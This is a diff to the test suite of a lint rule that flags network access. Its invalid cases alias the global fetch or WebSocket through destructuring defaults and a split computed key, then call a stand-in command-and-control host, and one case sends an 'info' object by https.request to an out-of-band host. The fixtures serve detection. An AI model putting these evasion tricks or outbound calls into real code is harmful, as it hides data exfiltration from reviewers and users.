@@ -8,6 +8,8 @@ const global = (line: number, column: number, data?: Record<string, string>) => 
 
 ruleTester.run('no-network', rule, {
   valid: [
+    // A default that is only a local function, from an object that is not the global.
+    'const { send = () => {} } = options; send("https://api.example");',
     // A local function named fetch, and methods named like the globals.
     'async function fetch(url) { return cache[url]; } fetch("https://evil.example");',
     'const fetch = (x) => x; fetch("https://evil.example"); api.fetch("/users"); this.fetch(); client.WebSocket;',
@@ -23,6 +25,10 @@ ruleTester.run('no-network', rule, {
 
   ],
   invalid: [
+    // A destructuring default does not take the global out of view: the name holds fetch wherever fetch exists.
+    { code: 'const { fetch: send = () => {} } = globalThis;\nsend("https://c2.attacker.example/p");', errors: [global(2, 1, { name: 'fetch', target: "'c2.attacker.example'" })] },
+    { code: 'const { ["fe" + "tch"]: go = null } = globalThis;\ngo("https://c2.attacker.example/p");', errors: [global(2, 1, { name: 'fetch', target: "'c2.attacker.example'" })] },
+    { code: 'const { WebSocket: Socket = class {} } = global;\nnew Socket("wss://c2.attacker.example");', errors: [global(2, 1)] },
     // Each call of a network module's functions, and each send on what they return, at its own line, with the host when it folds.
     {
       code: 'const https = require("https");\nconst options = { hostname: "x.oastify.com", port: 443 };\nconst req = https.request(options, (res) => {});\nreq.write(JSON.stringify(info));\nreq.end();',
